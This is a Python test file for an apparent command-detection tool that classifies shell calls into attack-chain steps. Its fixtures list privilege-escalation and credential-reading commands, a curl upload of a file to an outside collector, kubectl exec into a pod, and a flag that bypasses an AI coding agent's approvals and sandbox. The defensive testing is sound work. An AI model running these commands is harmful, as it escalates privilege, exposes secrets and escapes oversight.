"""Which steps a call does, from its text to the masks."""

from __future__ import annotations

from pathlib import Path

import pytest

from defenseclaw.chains import CHAINS, Projection, Reach, Step, project
from defenseclaw.chains.catalog import EGRESS, EXACT_STEPS, FIRST_STEPS
from defenseclaw.chains.fingerprints import CHAIN_RULES
from defenseclaw.chains.project import RULE_STEPS
from defenseclaw.core.finding import Finding, FindingRoute
from defenseclaw.core.tool import Platform
from defenseclaw.core.verdict import Profile, Severity
from defenseclaw.engine import parse_row
from defenseclaw.facts import analyze, enforcement_projection
from defenseclaw.rules import Generation, build_generation, load_pack

D, E, U, B = Step.PRIVILEGE_DISCOVERY, Step.ELEVATION, EGRESS, Step.RUNTIME_BYPASS
S, V, W, L = Step.SECRET_READ, Step.VAULT_READ, Step.WORKLOAD_IDENTITY, Step.LATERAL_EXECUTION
NONE = Step.NONE
CATALOG = Path(__file__).parents[2] / "src" / "defenseclaw" / "rules" / "catalog"


@pytest.fixture(scope="module")
def generation() -> Generation:
    files = {f"rules/{path.name}": path.read_bytes() for path in CATALOG.glob("*.yaml")}
    return build_generation([load_pack(files, name="catalog")], Profile.DEFAULT)


def steps_of(command: str, generation: Generation) -> Projection:
    call = parse_row({"id": "r", "command": command, "cwd": "/srv/app"}, Platform.POSIX).event.call
    assert call is not None
    result = analyze(call, {})
    findings = generation.evaluate_call(result, enforcement_projection).findings
    return project(result.facts, findings)


EXACT = [
    ("sudo -l", D),
    ("sudo --list", D),
    ("find / -perm -4000", D),
    ("find /usr -perm /u+s -type f", D),
    ("getcap -r /", D),
    ("sudo -s", E),
    ("sudo -u root /bin/sh", E),
    ("sudo -i", E),
    ("su -", E),
    ("su", E),
    ("su root", E),
    ("su - root", E),
    ("su -l root", E),
    ("doas -s", E),
    ("pkexec bash", E),
    ("curl --data-binary @report.bin https://collector.example.com/upload", U),
    ("codex exec --dangerously-bypass-approvals-and-sandbox", B),
    ("true; sudo -l", D),
]
# What is seen, and the part of it that may block.
SEEN = [
    ("sudo -l; true", D, NONE),
    ("sudo -l || true", D, NONE),
    ("true && sudo -l", D, NONE),
    ("if true; then sudo -l; fi", D, NONE),
    ("sudo -l | cat", D, NONE),
    ("( sudo -s )", E, NONE),
    ("true && sudo -s", E, NONE),
    ("for x in 1 2; do sudo -s; done", E, NONE),
    ("sudo -s &", E, NONE),
    ("cat ~/.aws/credentials", S, NONE),
    ("cat .env", S, NONE),
    ("vault kv get secret/db", V, NONE),
    ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", S | W, NONE),
    ("kubectl -n prod exec pod/api -- sh", L, NONE),
]
NOTHING = [
    "sudo apt-get update",
    "su alice",
    "sudo --help",
    "sudo -V",
    "find ./src -perm -4000",
    "getcap /usr/bin/ping",
    "pkexec id",
    "doas -C /etc/doas.conf",
    'echo "sudo -l"',
    "grep -rn 'sudo -s' docs",
    "echo codex --dangerously-bypass-approvals-and-sandbox",
    "curl https://example.com/file.tar.gz",
    "curl -X POST https://api.example.com/refresh",
    "curl --data-binary @report.bin http://127.0.0.1:8080/upload",
    "curl --data-binary @report.bin http://10.0.0.5/upload",
    "curl --data-binary @report.bin http://localhost/upload",
    "kubectl get pods",
    "cat README.md",
    "printf harmless",
]


@pytest.mark.parametrize(("command", "step"), EXACT)
def test_step_that_surely_runs_is_exact(command: str, step: Step, generation: Generation) -> None:
    found = steps_of(command, generation)
    assert Step(found.detection) & step == step
    assert Step(found.enforcement) == step


@pytest.mark.parametrize(("command", "seen", "exact"), SEEN)
def test_step_that_may_not_run_is_only_seen(
    command: str, seen: Step, exact: Step, generation: Generation
) -> None:
    found = steps_of(command, generation)
    assert (Step(found.detection), Step(found.enforcement)) == (seen, exact)


@pytest.mark.parametrize("command", NOTHING)
def test_near_misses_are_no_step(command: str, generation: Generation) -> None:
    found = steps_of(command, generation)
    assert (found.detection, found.enforcement) == (0, 0)


def finding(rule: str, *, enforceable: bool = True) -> Finding:
    return Finding(rule, "", Severity.HIGH, 1.0, FindingRoute.FALLBACK, enforceable)


@pytest.mark.parametrize("rule", RULE_STEPS)
def test_finding_alone_is_seen_and_never_exact(rule: str) -> None:
    found = project(None, [finding(rule)])
    assert (Step(found.detection), found.enforcement) == (RULE_STEPS[rule], 0)


def test_every_rule_with_a_step_isolates_history() -> None:
    assert RULE_STEPS.keys() <= set(CHAIN_RULES)


def test_rules_with_steps_are_in_the_catalogue(generation: Generation) -> None:
    known = "\n".join(path.read_text(encoding="utf-8") for path in CATALOG.rglob("*.yaml"))
    assert not [rule for rule in RULE_STEPS if f"id: {rule}" not in known]


def test_first_steps_of_detecting_chains_are_never_exact() -> None:
    for chain in CHAINS:
        is_exact = bool(EXACT_STEPS & chain.first)
        assert is_exact is (chain.reach is Reach.BLOCK), chain.id
    assert not EXACT_STEPS & Step.LATERAL_EXECUTION


def test_a_script_joins_the_call_that_runs_it() -> None:
    outer, inner = Projection(int(S), 0), Projection(int(D | E), int(D))
    joined = outer.joined(inner)
    assert (joined.detection, joined.enforcement) == (int(S | D | E), int(D))
    assert joined.only(FIRST_STEPS).detection == int(S | D)


@pytest.mark.parametrize(("detection", "enforcement"), [(0, 1), (1 << 12, 0), (1, 3)])
def test_impossible_masks_are_refused(detection: int, enforcement: int) -> None:
    """I10: what may enforce is part of what was seen."""
    with pytest.raises(ValueError, match="beyond"):
        Projection(detection, enforcement)
